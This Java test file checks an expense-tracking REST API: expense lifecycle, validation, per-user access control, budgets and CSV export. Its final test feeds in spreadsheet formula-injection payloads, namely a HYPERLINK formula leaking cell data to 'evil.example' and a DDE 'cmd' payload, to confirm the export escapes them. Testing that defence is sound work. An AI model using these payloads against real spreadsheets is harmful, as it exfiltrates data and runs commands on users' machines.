package dev.aide.expense;

import static org.assertj.core.api.Assertions.assertThat;

import dev.aide.support.AideServer;
import dev.aide.support.Api;
import io.vertx.core.buffer.Buffer;
import io.vertx.core.http.HttpMethod;
import io.vertx.core.json.JsonArray;
import io.vertx.core.json.JsonObject;
import java.math.BigDecimal;
import java.time.Clock;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.UUID;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;

@DisplayName("Expenses are managed through the REST API")
class ExpenseApiTest {

  // Wednesday 18 November 2026, 10:15 in Paris.
  private static final Clock CLOCK = Clock.fixed(Instant.parse("2026-11-18T09:15:00Z"), ZoneOffset.UTC);

  @RegisterExtension
  static final AideServer aide = AideServer.create().clock(CLOCK).freshEachTest().person("eve@example.com", "Europe/Paris");

  private final Api api = aide.api();

  @Test
  @DisplayName("an expense is created, read, listed, changed and deleted, its amount kept exact")
  void lifecycle() {
    Api.Response created = api.post("/api/v1/expenses", new JsonObject().put("amount", "12.5").put("currency", "eur")
        .put("category", "Food").put("description", "lunch").put("merchant", "Chez Paul").put("spentOn", "2026-11-17"));
    assertThat(created.status()).as(created.body()).isEqualTo(201);
    JsonObject expense = created.json();
    assertThat(expense.fieldNames()).contains("id", "amount", "currency", "category", "description", "spentOn",
        "merchant", "createdAt");
    assertThat(expense.getString("amount")).isEqualTo("12.50");
    assertThat(expense.getString("currency")).isEqualTo("EUR");
    assertThat(expense.getString("category")).isEqualTo("food");
    assertThat(expense.getString("spentOn")).isEqualTo("2026-11-17");
    assertThat(expense.getString("createdAt")).endsWith("+01:00");
    assertThat(aide.db().value("select amount from expenses", BigDecimal.class)).isEqualByComparingTo("12.50");
    String path = "/api/v1/expenses/" + expense.getString("id");

    assertThat(api.get(path).json().getString("description")).isEqualTo("lunch");
    assertThat(api.get("/api/v1/expenses").json().getJsonArray("items")).hasSize(1);
    assertThat(api.get("/api/v1/expenses?category=food&from=2026-11-01&to=2026-11-17").json().getJsonArray("items")).hasSize(1);
    assertThat(api.get("/api/v1/expenses?from=2026-11-18").json().getJsonArray("items")).isEmpty();
    assertThat(api.get("/api/v1/expenses?category=travel").json().getJsonArray("items")).isEmpty();

    Api.Response changed = api.patch(path, new JsonObject().put("amount", 13).put("merchant", null));
    assertThat(changed.status()).as(changed.body()).isEqualTo(200);
    assertThat(changed.json().getString("amount")).isEqualTo("13.00");
    assertThat(changed.json().getString("merchant")).isNull();
    assertThat(changed.json().getString("description")).isEqualTo("lunch");

    assertThat(api.delete(path).status()).isEqualTo(204);
    assertThat(api.get(path).status()).isEqualTo(404);
    assertThat(api.delete(path).status()).isEqualTo(404);
  }

  @Test
  @DisplayName("currency defaults to the user's default, date to today in their timezone, category to other")
  void defaults() {
    JsonObject expense = api.post("/api/v1/expenses", new JsonObject().put("amount", "3")).json();

    assertThat(expense.getString("currency")).isEqualTo("USD");
    assertThat(expense.getString("amount")).isEqualTo("3.00");
    assertThat(expense.getString("spentOn")).isEqualTo("2026-11-18");
    assertThat(expense.getString("category")).isEqualTo("other");
  }

  @Test
  @DisplayName("a number amount is read from the JSON text, never through a double, and yen keep no decimals")
  void exactNumbers() {
    Api.Response r = api.send(HttpMethod.POST, "/api/v1/expenses",
        Buffer.buffer("{\"amount\": 0.10, \"currency\": \"USD\"}"), "application/json");
    assertThat(r.json().getString("amount")).isEqualTo("0.10");
    Api.Response big = api.send(HttpMethod.POST, "/api/v1/expenses",
        Buffer.buffer("{\"amount\": 123456789012345.67}"), "application/json");
    assertThat(big.status()).as(big.body()).isEqualTo(201);
    assertThat(big.json().getString("amount")).isEqualTo("123456789012345.67");
    Api.Response yen = api.post("/api/v1/expenses", new JsonObject().put("amount", "1200").put("currency", "JPY"));
    assertThat(yen.json().getString("amount")).isEqualTo("1200");
    assertThat(aide.db().value("select sum(amount) from expenses where currency = 'USD'", BigDecimal.class))
        .isEqualByComparingTo("123456789012345.77");
  }

  @Test
  @DisplayName("another person's expense is not found, and they cannot change or delete it")
  void othersExpenses() {
    String id = api.post("/api/v1/expenses", new JsonObject().put("amount", "9.99").put("description", "secret"))
        .json().getString("id");
    Api other = aide.signUp("mal@example.com", "UTC");

    assertThat(other.get("/api/v1/expenses/" + id).status()).isEqualTo(404);
    assertThat(other.patch("/api/v1/expenses/" + id, new JsonObject().put("amount", "1")).status()).isEqualTo(404);
    assertThat(other.delete("/api/v1/expenses/" + id).status()).isEqualTo(404);
    assertThat(other.get("/api/v1/expenses").json().getJsonArray("items")).isEmpty();
    assertThat(other.get("/api/v1/expenses/summary").json().getJsonArray("groups")).isEmpty();
    assertThat(aide.db().value("select amount from expenses", BigDecimal.class)).isEqualByComparingTo("9.99");
    other.close();
  }

  @Test
  @DisplayName("bad expense input gets 422 (or 400/415) with the error JSON, and nothing is written")
  void badInput() {
    String[] badAmounts = {"-5", "0", "0.00", "12.5.3", "NaN", "1e3", "12,50", "$12", "", "12.12345",
        "1234567890123456"};
    for (String amount : badAmounts) {
      expect(api.post("/api/v1/expenses", new JsonObject().put("amount", amount)), 422);
    }
    for (String raw : new String[] {"-5", "-0.01", "0", "1e3", "1.5E2", "true", "[]", "{}", "null"}) {
      expect(api.send(HttpMethod.POST, "/api/v1/expenses", Buffer.buffer("{\"amount\": " + raw + "}"), "application/json"), 422);
    }
    expect(api.post("/api/v1/expenses", new JsonObject()), 422);
    expect(api.post("/api/v1/expenses", new JsonObject().put("amount", "12.345").put("currency", "USD")), 422);
    expect(api.post("/api/v1/expenses", new JsonObject().put("amount", "1200.5").put("currency", "JPY")), 422);
    expect(api.post("/api/v1/expenses", new JsonObject().put("amount", "1").put("currency", "ABC")), 422);
    expect(api.post("/api/v1/expenses", new JsonObject().put("amount", "1").put("currency", "XXX")), 422);
    expect(api.post("/api/v1/expenses", new JsonObject().put("amount", "1").put("currency", "EURO")), 422);
    expect(api.post("/api/v1/expenses", new JsonObject().put("amount", "1").put("currency", 840)), 422);
    expect(api.post("/api/v1/expenses", new JsonObject().put("amount", "1").put("spentOn", "yesterday")), 422);
    expect(api.post("/api/v1/expenses", new JsonObject().put("amount", "1").put("spentOn", "2026-02-30")), 422);
    expect(api.post("/api/v1/expenses", new JsonObject().put("amount", "1").put("spentOn", "18/11/2026")), 422);
    expect(api.post("/api/v1/expenses", new JsonObject().put("amount", "1").put("category", "!!!")), 422);
    expect(api.post("/api/v1/expenses", new JsonObject().put("amount", "1").put("category", "x".repeat(41))), 422);
    expect(api.post("/api/v1/expenses", new JsonObject().put("amount", "1").put("colour", "red")), 422);
    expect(api.post("/api/v1/expenses", new JsonObject().put("amount", "1").put("description", new JsonArray())), 422);
    expect(api.send(HttpMethod.POST, "/api/v1/expenses", Buffer.buffer("{not json"), "application/json"), 400);
    expect(api.send(HttpMethod.POST, "/api/v1/expenses", Buffer.buffer("amount=1"), "text/plain"), 415);
    expect(api.get("/api/v1/expenses?from=yesterday"), 422);
    expect(api.get("/api/v1/expenses?from=2026-11-10&to=2026-11-01"), 422);
    expect(api.get("/api/v1/expenses?limit=0"), 422);
    expect(api.get("/api/v1/expenses/summary?groupBy=week"), 422);
    expect(api.get("/api/v1/expenses/summary?from=2026-13-01"), 422);
    expect(api.get("/api/v1/expenses/export.csv?to=soon"), 422);
    expect(api.get("/api/v1/expenses/not-a-uuid"), 404);
    expect(api.patch("/api/v1/expenses/" + UUID.randomUUID(), new JsonObject().put("amount", "1")), 404);
    assertThat(aide.db().number("select count(*) from expenses")).isZero();

    String id = api.post("/api/v1/expenses", new JsonObject().put("amount", "12.50").put("currency", "USD")
        .put("description", "keep me")).json().getString("id");
    String path = "/api/v1/expenses/" + id;
    expect(api.patch(path, new JsonObject()), 422);
    expect(api.patch(path, new JsonObject().putNull("amount")), 422);
    expect(api.patch(path, new JsonObject().putNull("currency")), 422);
    expect(api.patch(path, new JsonObject().put("amount", "-1")), 422);
    expect(api.patch(path, new JsonObject().put("currency", "JPY")), 422);
    expect(api.patch(path, new JsonObject().put("spentOn", "tomorrow")), 422);
    JsonObject kept = api.get(path).json();
    assertThat(kept.getString("amount")).isEqualTo("12.50");
    assertThat(kept.getString("currency")).isEqualTo("USD");
    assertThat(kept.getString("description")).isEqualTo("keep me");
    assertThat(aide.db().number("select count(*) from expenses")).isEqualTo(1);
  }

  @Test
  @DisplayName("budgets are set, listed with spent and remaining, replaced and deleted; bad budgets are refused")
  void budgets() {
    api.post("/api/v1/expenses", new JsonObject().put("amount", "120.25").put("category", "food").put("spentOn", "2026-11-02"));
    api.post("/api/v1/expenses", new JsonObject().put("amount", "30").put("category", "food").put("spentOn", "2026-10-31"));

    Api.Response put = api.send(HttpMethod.PUT, "/api/v1/budgets/Food",
        new JsonObject().put("amount", "400").toBuffer(), "application/json");
    assertThat(put.status()).as(put.body()).isEqualTo(200);
    assertThat(put.json()).isEqualTo(new JsonObject().put("category", "food").put("amount", "400.00")
        .put("currency", "USD").put("month", "2026-11").put("spent", "120.25").put("remaining", "279.75"));

    JsonObject october = api.get("/api/v1/budgets?month=2026-10").json().getJsonArray("items").getJsonObject(0);
    assertThat(october.getString("spent")).isEqualTo("30.00");
    assertThat(october.getString("remaining")).isEqualTo("370.00");

    expect(api.send(HttpMethod.PUT, "/api/v1/budgets/food", new JsonObject().put("amount", "-1").toBuffer(), "application/json"), 422);
    expect(api.send(HttpMethod.PUT, "/api/v1/budgets/food", new JsonObject().put("amount", "1").put("currency", "QQQ").toBuffer(), "application/json"), 422);
    expect(api.send(HttpMethod.PUT, "/api/v1/budgets/food", new JsonObject().toBuffer(), "application/json"), 422);
    expect(api.send(HttpMethod.PUT, "/api/v1/budgets/%21%21", new JsonObject().put("amount", "1").toBuffer(), "application/json"), 422);
    expect(api.get("/api/v1/budgets?month=November"), 422);
    assertThat(aide.db().value("select amount from budgets", BigDecimal.class)).isEqualByComparingTo("400");

    assertThat(api.delete("/api/v1/budgets/food").status()).isEqualTo(204);
    assertThat(api.delete("/api/v1/budgets/food").status()).isEqualTo(404);
    assertThat(api.get("/api/v1/budgets").json().getJsonArray("items")).isEmpty();
  }

  @Test
  @DisplayName("the CSV export has a header row and quotes commas, quotes and line breaks as RFC 4180 says")
  void csvExport() {
    api.post("/api/v1/expenses", new JsonObject().put("amount", "4.20").put("category", "food")
        .put("description", "coffee, \"large\"").put("spentOn", "2026-11-02"));
    api.post("/api/v1/expenses", new JsonObject().put("amount", "1200").put("currency", "JPY")
        .put("description", "line one\nline two").put("merchant", "Taxi Co").put("spentOn", "2026-11-03"));
    api.post("/api/v1/expenses", new JsonObject().put("amount", "9").put("spentOn", "2026-12-03"));

    Api.Response csv = api.get("/api/v1/expenses/export.csv?from=2026-11-01&to=2026-11-30");

    assertThat(csv.status()).isEqualTo(200);
    String[] lines = csv.body().split("\r\n", -1);
    assertThat(lines[0]).isEqualTo("id,spentOn,amount,currency,category,description,merchant,createdAt");
    assertThat(lines[1]).matches("[0-9a-f-]{36},2026-11-02,4.20,USD,food,\"coffee, \"\"large\"\"\",,\\d{4}-\\d\\d-\\d\\dT[0-9:]{8}\\+01:00");
    assertThat(lines[2]).matches("[0-9a-f-]{36},2026-11-03,1200,JPY,other,\"line one\nline two\",Taxi Co,.*");
    assertThat(lines).hasSize(4);
    assertThat(lines[3]).isEmpty();
  }

  @Test
  @DisplayName("a CSV cell that a spreadsheet would run as a formula (= + - @) starts with a quote; a plain number stays a number")
  void csvFormulaInjection() {
    api.post("/api/v1/expenses", new JsonObject().put("amount", "1").put("spentOn", "2026-11-02")
        .put("description", "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")").put("merchant", "@SUM(A1:A9)"));
    api.post("/api/v1/expenses", new JsonObject().put("amount", "2").put("spentOn", "2026-11-03")
        .put("description", "+1+cmd|' /C calc'!A0").put("merchant", "-2+3"));
    api.post("/api/v1/expenses", new JsonObject().put("amount", "3").put("spentOn", "2026-11-04")
        .put("description", "-12.50").put("merchant", "+3"));

    String[] lines = api.get("/api/v1/expenses/export.csv?from=2026-11-01&to=2026-11-30").body().split("\r\n", -1);

    assertThat(lines[1]).contains(",\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"Click\"\")\",'@SUM(A1:A9),");
    assertThat(lines[2]).contains(",'+1+cmd|' /C calc'!A0,'-2+3,");
    assertThat(lines[3]).contains(",-12.50,+3,");
  }

  private static void expect(Api.Response response, int status) {
    assertThat(response.status()).as(response.body()).isEqualTo(status);
    assertThat(response.json().getJsonObject("error").getString("code")).isNotBlank();
    assertThat(response.json().getJsonObject("error").getString("message")).isNotBlank();
  }
}
